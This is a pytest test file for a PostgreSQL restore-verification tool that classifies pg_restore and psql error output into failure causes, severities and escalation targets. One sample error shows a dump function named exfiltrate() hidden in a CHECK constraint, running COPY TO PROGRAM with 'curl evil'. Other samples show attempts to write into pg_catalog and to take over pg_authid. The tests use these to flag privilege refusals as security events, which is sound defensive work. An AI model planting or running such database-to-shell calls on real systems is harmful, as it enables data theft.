"""F2 classification (runbook F2 step 3) of captured pg_restore and psql stderr, and `first_error`.

The Restorer is built without a database that exists (a ConnInfo on a socket directory that
does not); `classify` reads only the stderr, the dump's table of contents when it has one, and,
for a version mismatch, `pg_restore --version` of a real bin dir (no server is started). What
uses a failing function is looked up in the restored database: that one query is stubbed.
"""

from __future__ import annotations

import pytest

from busflow_verify.core.postgres.cluster import ConnInfo, find_bin_dir
from busflow_verify.core.postgres.privilege import RestoreDatabase
from busflow_verify.core.restore.f2_triage import first_error
from busflow_verify.core.restore.restorer import Restorer
from busflow_verify.core.restore.toc import parse_toc

KEY = "pg_dump_20261120_0100.dump"
NOWHERE = ConnInfo("/nowhere", 1, "busflow_restore", "x")

TOC = parse_toc("""\
216; 1259 16400 TABLE commerce bookings postgres
3350; 0 16400 TABLE DATA commerce bookings postgres
3351; 0 16410 TABLE DATA communications messages postgres
3352; 0 16420 TABLE DATA archive bookings postgres
3290; 2606 16500 CHECK CONSTRAINT commerce bookings amount_ok postgres
""")


@pytest.fixture(scope="module")
def bin_dir():
    return find_bin_dir()


def restorer(tmp_path, bin_dir, toc=None, dependents=()):
    r = Restorer(
        tmp_path / "d", KEY, RestoreDatabase(owner=NOWHERE, admin=NOWHERE), bin_dir, tmp_path
    )
    r.toc = toc
    r._dependents_of = lambda function: list(dependents)  # the restored database's pg_depend
    return r


def test_a_restorer_needs_no_database_to_classify(tmp_path, bin_dir):
    finding = Restorer(tmp_path / "d", KEY, None, bin_dir, tmp_path).classify(
        "pg_restore: error: could not read from input file: end of file\n", "data"
    )
    assert finding.details["cause"] == "truncated"


# -- one row per F2 cause ----------------------------------------------------------------------
VERSION = "pg_restore: error: unsupported version (1.17) in file header\n"
MISSING_NEW = (
    'pg_restore: error: could not execute query: ERROR:  extension "pgvector" is not '
    'available\nDETAIL:  Could not open extension control file "/usr/share/'
    'postgresql/15/extension/pgvector.control": No such file or directory.\n'
    "HINT:  The extension must first be installed on the system where PostgreSQL is "
    "running.\nCommand was: CREATE EXTENSION IF NOT EXISTS pgvector WITH SCHEMA "
    "public;\n"
)
MISSING_OLD = (
    "pg_restore: error: could not execute query: ERROR:  could not open extension "
    'control file "/usr/share/postgresql/13/extension/pg_cron.control": No such file '
    "or directory\nCommand was: CREATE EXTENSION IF NOT EXISTS pg_cron WITH SCHEMA "
    "pg_catalog;\n"
)
SUPERUSER = (
    "pg_restore: while PROCESSING TOC:\n"
    "pg_restore: from TOC entry 3290; 2606 16500 CHECK CONSTRAINT commerce bookings "
    "amount_ok postgres\n"
    "pg_restore: error: could not execute query: ERROR:  must be superuser to COPY to "
    "or from an external program\n"
    "HINT:  Anyone can COPY to stdout or from stdin. psql's \\copy command also works "
    "for anyone.\n"
    "CONTEXT:  SQL statement \"COPY (SELECT 1) TO PROGRAM 'curl evil'\"\n"
    "PL/pgSQL function public.exfiltrate() line 3 at EXECUTE\n"
    'SQL function "amount_ok_check" statement 1\n'
    "Command was: ALTER TABLE commerce.bookings ADD CONSTRAINT amount_ok CHECK "
    "(public.amount_ok_check(amount_cents));\n"
)
DENIED = (
    "pg_restore: error: could not execute query: ERROR:  permission denied for schema "
    "pg_catalog\nCommand was: CREATE FUNCTION pg_catalog.sneaky() RETURNS int AS "
    "'select 1' LANGUAGE sql;\n"
)
DENIED_PSQL = (
    "psql:/tmp/busflow-verify-x/restorable.sql:4711: ERROR:  permission denied to create role\n"
)
OWNER = (
    "pg_restore: error: could not execute query: ERROR:  must be owner of table "
    "pg_authid\nCommand was: ALTER TABLE pg_catalog.pg_authid OWNER TO postgres;\n"
)
ONLY_SUPERUSER = "psql:restorable.sql:12: ERROR:  only superuser can define a leakproof function\n"
COPY = (
    "pg_restore: while PROCESSING TOC:\n"
    "pg_restore: from TOC entry 3350; 0 16400 TABLE DATA commerce bookings postgres\n"
    'pg_restore: error: COPY failed for table "bookings": ERROR:  invalid input syntax for '
    'type integer: "50x0"\n'
    'CONTEXT:  COPY bookings, line 500, column amount: "50x0"\n'
)
COPY_NO_COLUMN = (
    "pg_restore: from TOC entry 3351; 0 16410 TABLE DATA communications messages "
    "postgres\n"
    'pg_restore: error: COPY failed for table "messages": ERROR:  extra data after '
    "last expected column\nCONTEXT:  COPY messages, line 7\n"
)
TRUNCATED = "pg_restore: error: could not read from input file: end of file\n"
UNEXPECTED_EOF = "pg_restore: error: unexpected end of file\n"
COMPRESSED = "pg_restore: error: could not uncompress data: invalid compressed data\n"
GENERIC = (
    'pg_restore: error: could not execute query: ERROR:  relation "bookings" already '
    "exists\nCommand was: CREATE TABLE commerce.bookings (id bigint);\n"
)
GENERIC_PSQL = 'psql:restorable.sql:99: ERROR:  syntax error at or near "FOO"\n'


@pytest.mark.parametrize(
    "stderr, section, cause, severity",
    [
        (VERSION, "table of contents", "version_mismatch", "P2"),
        (MISSING_NEW, "pre-data", "missing_extension", "P2"),
        (MISSING_OLD, "pre-data", "missing_extension", "P2"),
        (SUPERUSER, "post-data", "insufficient_privilege", "P1"),
        (DENIED, "pre-data", "insufficient_privilege", "P1"),
        (DENIED_PSQL, "plain", "insufficient_privilege", "P1"),
        (OWNER, "pre-data", "insufficient_privilege", "P1"),
        (ONLY_SUPERUSER, "plain", "insufficient_privilege", "P1"),
        (COPY, "data", "copy_failed", "P1"),
        (COPY_NO_COLUMN, "data", "copy_failed", "P1"),
        (TRUNCATED, "data", "truncated", "P1"),
        (UNEXPECTED_EOF, "table of contents", "truncated", "P1"),
        (COMPRESSED, "data", "truncated", "P1"),
        (GENERIC, "pre-data", "restore_error", "P2"),
        (GENERIC_PSQL, "plain", "restore_error", "P2"),
        ("", "post-data", "restore_error", "P2"),
    ],
)
def test_classify_names_the_cause(tmp_path, bin_dir, stderr, section, cause, severity):
    finding = restorer(tmp_path, bin_dir, TOC).classify(stderr, section)
    failure = finding.to_dict()
    assert (failure["code"], failure["name"]) == ("F2", "RESTORE_FAILED")
    assert failure["details"]["cause"] == cause
    assert failure["severity"] == severity
    assert failure["details"]["key"] == KEY
    assert failure["details"]["section"] == section
    security = cause == "insufficient_privilege"
    assert ("@security-oncall" in failure["escalate_to"]) is security
    assert {"@infra-oncall", "@data-oncall"} <= set(failure["escalate_to"])


@pytest.mark.parametrize(
    "stderr, first",
    [
        # the version header wins over anything else pg_restore says
        (VERSION + TRUNCATED, "version_mismatch"),
        # a missing extension is not a privilege refusal, although CREATE EXTENSION failed
        (MISSING_NEW + DENIED, "missing_extension"),
        # a refused statement with a COPY context is a security event, not corruption
        (DENIED + "CONTEXT:  COPY bookings, line 1\n", "insufficient_privilege"),
        # a COPY that hit the end of the file names its line: copy_failed
        (COPY + TRUNCATED, "copy_failed"),
    ],
)
def test_the_causes_are_tried_in_the_decision_trees_order(tmp_path, bin_dir, stderr, first):
    assert restorer(tmp_path, bin_dir, TOC).classify(stderr, "data").details["cause"] == first


# -- what each finding says --------------------------------------------------------------------
def test_a_version_mismatch_names_the_archive_its_writer_and_our_pg_restore(tmp_path, bin_dir):
    finding = restorer(tmp_path, bin_dir).classify(VERSION, "table of contents")
    details = finding.details
    assert details["archive_version"] == "1.17"
    assert details["written_by"] == "a pg_dump newer than PostgreSQL 18"
    assert details["pg_restore"].startswith("pg_restore (PostgreSQL) ")
    assert f"{KEY} is archive version 1.17" in finding.summary
    assert details["pg_restore"] in finding.summary
    assert "upgrade the restore target's PostgreSQL" in finding.summary


@pytest.mark.parametrize(
    "stderr, extensions",
    [
        (MISSING_NEW, ["pgvector"]),
        (MISSING_OLD, ["pg_cron"]),
        (MISSING_NEW + MISSING_OLD, ["pg_cron", "pgvector"]),
        (
            'ERROR:  extension "pgsodium" is not available\nERROR:  extension "pgsodium" is not '
            "available\n",
            ["pgsodium"],
        ),
    ],
)
def test_a_missing_extension_is_named_with_its_remedy(tmp_path, bin_dir, stderr, extensions):
    finding = restorer(tmp_path, bin_dir).classify(stderr, "pre-data")
    assert finding.details["extensions"] == extensions
    assert finding.details["section"] == "pre-data"
    assert f"needs extension(s) {', '.join(extensions)}" in finding.summary
    assert "while restoring pre-data" in finding.summary
    assert "EXTENSIONS in docker/backup/producer.env" in finding.summary
    assert finding.details["remedy"] == (
        f"add {', '.join(extensions)} to EXTENSIONS in docker/backup/producer.env"
    )


@pytest.mark.parametrize(
    "stderr, toc, dependents, message, obj, functions, culprit",
    [
        (
            SUPERUSER,
            TOC,
            ["constraint amount_ok on table commerce.bookings"],
            "must be superuser to COPY to or from an external program",
            "CHECK CONSTRAINT commerce.bookings amount_ok",
            ["public.exfiltrate()", "amount_ok_check"],
            "function amount_ok_check (calling public.exfiltrate()), used by constraint amount_ok on "
            "table commerce.bookings,",
        ),
        (
            SUPERUSER,
            None,
            [],
            "must be superuser to COPY to or from an external program",
            None,
            ["public.exfiltrate()", "amount_ok_check"],
            "function amount_ok_check (calling public.exfiltrate())",
        ),
        (DENIED, TOC, [], "permission denied for schema pg_catalog", None, [], "a statement"),
        (DENIED_PSQL, None, [], "permission denied to create role", None, [], "a statement"),
        (OWNER, TOC, [], "must be owner of table pg_authid", None, [], "a statement"),
        (
            ONLY_SUPERUSER,
            None,
            [],
            "only superuser can define a leakproof function",
            None,
            [],
            "a statement",
        ),
    ],
)
def test_a_privilege_refusal_is_a_security_event_naming_the_culprit(
    tmp_path, bin_dir, stderr, toc, dependents, message, obj, functions, culprit
):
    finding = restorer(tmp_path, bin_dir, toc, dependents).classify(stderr, "post-data")
    failure = finding.to_dict()
    assert failure["severity"] == "P1"
    assert failure["escalate_to"] == ["@infra-oncall", "@data-oncall", "@security-oncall"]
    details = failure["details"]
    assert details["message"] == message and details["restore_role"] == "busflow_restore"
    assert details["object"] == obj
    assert details["functions"] == functions and details["used_by"] == dependents
    assert finding.summary.startswith(f"{KEY}: {culprit}")
    assert "restore role busflow_restore" in finding.summary and message in finding.summary
    assert f"in {obj or 'section post-data'} (" in finding.summary
    assert "A security event" in finding.summary
    assert "Do not restore this dump as a superuser." in failure["next_step"]


@pytest.mark.parametrize(
    "stderr, toc, table, line, column, candidates, reason",
    [
        (
            COPY,
            TOC,
            "commerce.bookings",
            500,
            "amount",
            ["archive.bookings", "commerce.bookings"],
            'invalid input syntax for type integer: "50x0"',
        ),
        # no TOC entry in the stderr, and two tables of that name: the bare name
        (
            COPY.split("\n", 2)[2],
            TOC,
            "bookings",
            500,
            "amount",
            ["archive.bookings", "commerce.bookings"],
            'invalid input syntax for type integer: "50x0"',
        ),
        (
            COPY_NO_COLUMN,
            TOC,
            "communications.messages",
            7,
            None,
            ["communications.messages"],
            "extra data after last expected column",
        ),
        # no TOC entry, one table of that name: qualified from the TOC
        (
            COPY_NO_COLUMN.split("\n", 1)[1],
            TOC,
            "communications.messages",
            7,
            None,
            ["communications.messages"],
            "extra data after last expected column",
        ),
        (
            COPY,
            None,
            "bookings",
            500,
            "amount",
            [],
            'invalid input syntax for type integer: "50x0"',
        ),
    ],
)
def test_a_copy_failure_names_table_line_and_column_and_is_p1(
    tmp_path, bin_dir, stderr, toc, table, line, column, candidates, reason
):
    finding = restorer(tmp_path, bin_dir, toc).classify(stderr, "data")
    details = finding.details
    assert (details["table"], details["line"], details["column"]) == (table, line, column)
    assert details["table_candidates"] == candidates
    assert finding.to_dict()["severity"] == "P1"
    assert finding.summary.startswith(
        f"COPY into {table} failed at line {line} of its data"
        + (f", column {column}" if column else "")
        + f" ({reason})"
    )
    assert "snapshot the source (PITR via Ubicloud)" in finding.summary
    assert finding.next_step.startswith("Snapshot the source immediately")


@pytest.mark.parametrize(
    "stderr",
    [
        TRUNCATED,
        UNEXPECTED_EOF,
        COMPRESSED,
        "pg_restore: error: unexpected EOF\n",
        "pg_restore: error: archive is corrupt\n",
    ],
)
def test_a_truncated_archive_says_it_ends_early(tmp_path, bin_dir, stderr):
    finding = restorer(tmp_path, bin_dir).classify(stderr, "data")
    assert finding.summary == (
        f"{KEY} ends early: the archive is truncated or corrupt ({stderr.strip()})"
    )
    assert finding.next_step.startswith("Re-run pg_dump from the source")


@pytest.mark.parametrize(
    "stderr, section, error",
    [
        (
            GENERIC,
            "pre-data",
            "pg_restore: error: could not execute query: ERROR:  relation "
            '"bookings" already exists | Command was: CREATE TABLE '
            "commerce.bookings (id bigint);",
        ),
        (GENERIC_PSQL, "plain", 'psql:restorable.sql:99: ERROR:  syntax error at or near "FOO"'),
        ("", "post-data", "no error output"),
    ],
)
def test_anything_else_is_a_restore_error_naming_section_and_error(
    tmp_path, bin_dir, stderr, section, error
):
    finding = restorer(tmp_path, bin_dir).classify(stderr, section)
    assert finding.details["error"] == error
    assert finding.summary == f"restoring {KEY} failed in section {section}: {error}"
    assert finding.next_step is None  # the catalogue's F2 walk


# -- first_error -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "stderr, first",
    [
        ("", "no error output"),
        ("\n  \n", "no error output"),
        (
            "pg_restore: warning: errors ignored on restore: 1\n",
            "pg_restore: warning: errors ignored on restore: 1",
        ),  # no error line: the last line
        ("some output\nthe last line\n", "the last line"),
        (
            "pg_restore: connecting to database for restore\n" + VERSION + TRUNCATED,
            "pg_restore: error: unsupported version (1.17) in file header",
        ),
        (
            COPY,
            'pg_restore: error: COPY failed for table "bookings": ERROR:  invalid input syntax '
            'for type integer: "50x0" | CONTEXT:  COPY bookings, line 500, column amount: "50x0"',
        ),
        (
            "ERROR:  x\nDETAIL:  d\nHINT:  h\nCONTEXT:  c\nLINE 1: l\nCommand was: q\n",
            "ERROR:  x | DETAIL:  d | CONTEXT:  c",
        ),  # the next three lines, HINT left out
        (
            "ERROR:  x\nDETAIL:  d\nCONTEXT:  c\nLINE 1: l\nCommand was: q\n",
            "ERROR:  x | DETAIL:  d | CONTEXT:  c | LINE 1: l",
        ),
        ("   psql:f.sql:3: ERROR:  boom   \n", "psql:f.sql:3: ERROR:  boom"),
        (
            'psql: error: connection to server on socket "/x/.s.PGSQL.1" failed: No such file\n',
            'psql: error: connection to server on socket "/x/.s.PGSQL.1" failed: No such file',
        ),
        (
            "FATAL:  terminating connection due to administrator command\n",
            "FATAL:  terminating connection due to administrator command",
        ),
        ("WARNING:  first\nERROR:  second\nERROR:  third\n", "ERROR:  second"),
        ("terror: not an error line\n", "terror: not an error line"),  # \berror: only
    ],
)
def test_first_error(stderr, first):
    assert first_error(stderr) == first


@pytest.mark.parametrize("stderr", ["ERROR:  " + "x" * 2000, "y" * 2000])
def test_first_error_is_at_most_1000_characters(stderr):
    assert first_error(stderr) == stderr[:1000]


DISK_FULL_COPY = """\
pg_restore: error: COPY failed for table "bookings": ERROR:  could not extend file "base/16384/16400": No space left on device
HINT:  Check free disk space.
CONTEXT:  COPY bookings, line 81234
"""


@pytest.mark.parametrize("section", ["data", "post-data"])
def test_a_full_disk_is_the_hosts_never_source_corruption(tmp_path, bin_dir, section):
    r = restorer(tmp_path, bin_dir, TOC)
    r.data_path, r.data_host = tmp_path, "the verify host"
    finding = r.classify(DISK_FULL_COPY, section)
    assert finding.name == "HOST_OUT_OF_SPACE"
    assert finding.to_dict()["escalate_to"] == ["@infra-oncall"]
    assert finding.details["stage"] == f"restoring {section}"
    assert finding.details["path"] == str(tmp_path) and finding.details["free_bytes"] > 0
    assert "No space left on device" in finding.details["error"]
    assert "snapshot" not in finding.summary.lower() and "corruption" not in finding.summary


def test_a_restore_servers_full_disk_names_that_server(tmp_path, bin_dir):
    r = restorer(tmp_path, bin_dir, TOC)
    r.data_host = "the restore server"
    finding = r.classify(DISK_FULL_COPY, "data")
    assert finding.name == "HOST_OUT_OF_SPACE"
    assert finding.summary.startswith("the restore server ran out of disk space")
    assert finding.details["free_bytes"] is None  # not this host's disk to measure


def test_pg_restores_own_out_of_memory_on_a_corrupt_archive_stays_f2(tmp_path, bin_dir):
    finding = restorer(tmp_path, bin_dir).classify("pg_restore: error: out of memory\n", "data")
    assert finding.name == "RESTORE_FAILED"


def test_the_servers_out_of_memory_is_the_hosts(tmp_path, bin_dir):
    stderr = "pg_restore: error: could not execute query: ERROR:  out of memory\nDETAIL:  Failed on request of size 8192.\n"
    finding = restorer(tmp_path, bin_dir).classify(stderr, "post-data")
    assert (finding.name, finding.details["cause"]) == ("VERIFY_HOST_FAULT", "out_of_memory")
